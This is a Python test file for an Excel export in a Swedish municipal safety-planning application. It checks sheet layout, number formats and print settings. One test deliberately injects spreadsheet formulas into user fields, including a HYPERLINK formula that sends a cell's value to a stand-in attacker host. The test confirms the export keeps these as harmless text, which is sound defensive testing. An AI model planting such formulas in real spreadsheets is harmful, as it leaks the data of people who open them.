"""Excel lists: one sheet per list, bold frozen header, numbers stored as numbers."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from lsoplan.reports.render_xlsx import Sheet, render_xlsx
from lsoplan.reports.services import produce
from tests.factories import World

pytestmark = pytest.mark.django_db


def test_every_list_is_a_sheet_with_numbers_as_numbers(world: World) -> None:
    wb = load_workbook(io.BytesIO(produce(world.version, "programme", "xlsx").content))
    assert wb.sheetnames == [
        "Mål",
        "Indikatorer",
        "Mätvärden",
        "Risker",
        "Åtgärder",
        "Förmåga",
        "Förbättringsåtgärder",
        "Händelsestatistik",
    ]
    for ws in wb.worksheets:
        assert all(cell.font.bold for cell in ws[1]), ws.title
        assert ws.freeze_panes is not None and ws.freeze_panes.endswith("2")
    indicators = wb["Indikatorer"]
    header = [c.value for c in indicators[1]]
    assert header[-5:] == ["2016", "2017", "2018", "2019", "2020"]
    row = [c.value for c in indicators[2]]
    assert row[:3] == ["S1", "Bränder i bostad", "antal"]
    assert row[-5:] == [26, 24, 25, 25, 23]
    assert indicators.freeze_panes == "C2"
    assert indicators.column_dimensions["B"].width >= len("Bränder i bostad")
    values = wb["Mätvärden"]
    cell = values.cell(row=2, column=4)
    assert cell.data_type == "n" and cell.value == 26 and cell.number_format == "#,##0"
    risks = wb["Risker"]
    assert [c.value for c in risks[2]][:6] == ["R1", "Brand i bostad", "Brand i byggnad", 4, 4, 16]
    assert wb.properties.creator == world.org.name


def test_followup_lists_add_the_year_status(world: World) -> None:
    wb = load_workbook(io.BytesIO(produce(world.version, "followup", "xlsx", year=2020).content))
    assert "Måluppfyllelse 2020" in wb.sheetnames
    ws = wb["Måluppfyllelse 2020"]
    assert [c.value for c in ws[1]] == ["Mål", "Indikator", "Status", "Bedömning", "Metod"]
    assert ws.cell(row=2, column=2).value == "Bränder i bostad"


def test_sheet_validation_and_decimal_format() -> None:
    with pytest.raises(ValueError, match="bladnamn"):
        Sheet("Mål/indikatorer", ("a",))
    with pytest.raises(ValueError, match="rad 1"):
        Sheet("Mål", ("a", "b"), [[1]])
    wb = load_workbook(io.BytesIO(render_xlsx([Sheet("Tal", ("x",), [[1234.5]])])))
    cell = wb["Tal"]["A2"]
    assert cell.value == 1234.5 and cell.number_format == "#,##0.0##"


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C3,"Läs mer")'


def _poisoned(world: World) -> None:
    """A risk title, a goal text and an owner typed as formulas."""
    world.risk.title = HYPERLINK
    world.risk.save()
    world.safety_goal.text = "=1+2"
    world.safety_goal.owner = HYPERLINK
    world.safety_goal.save()
    world.measure.text = "@SUM(A1:A9)"
    world.measure.save()


@pytest.mark.parametrize("kind", ["programme", "followup"])
def test_no_sheet_holds_a_formula_built_from_user_text(world: World, kind: str) -> None:
    _poisoned(world)
    content = produce(world.version, kind, "xlsx", year=2020 if kind == "followup" else None).content
    wb = load_workbook(io.BytesIO(content))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    # Kept exactly as typed, shown as text.
    assert HYPERLINK in texts and "=1+2" in texts and "@SUM(A1:A9)" in texts
    assert b"<f>" not in _sheet_xml(content)


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_years_are_plain_integers_not_thousands(world: World) -> None:
    wb = load_workbook(io.BytesIO(produce(world.version, "programme", "xlsx").content))
    values = wb["Mätvärden"]
    year = values.cell(row=2, column=3)
    assert year.value == 2016 and year.number_format == "0"
    indicators = wb["Indikatorer"]
    header = [c.value for c in indicators[1]]
    target_year = indicators.cell(row=2, column=header.index("Målår") + 1)
    assert target_year.value == 2030 and target_year.number_format == "0"
    cost = wb["Åtgärder"]
    assert [c.value for c in cost[1]][-1] == "Årlig kostnad (kr)"


def test_every_sheet_prints_with_its_header_on_each_page_fitted_to_width(world: World) -> None:
    wb = load_workbook(io.BytesIO(produce(world.version, "programme", "xlsx").content))
    for ws in wb.worksheets:
        assert ws.print_title_rows == "$1:$1", ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1, ws.title
        assert ws.page_setup.fitToHeight == 0, ws.title
    assert wb["Indikatorer"].page_setup.orientation == "landscape"
    assert wb["Händelsestatistik"].page_setup.orientation == "portrait"


def test_lists_name_sources_not_internal_codes(world: World) -> None:
    wb = load_workbook(io.BytesIO(produce(world.version, "programme", "xlsx").content))
    cells = [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert "Egen registrering" in cells
    assert not any("Manuell inmatning" in c or "lsoplan" in c.lower() for c in cells)
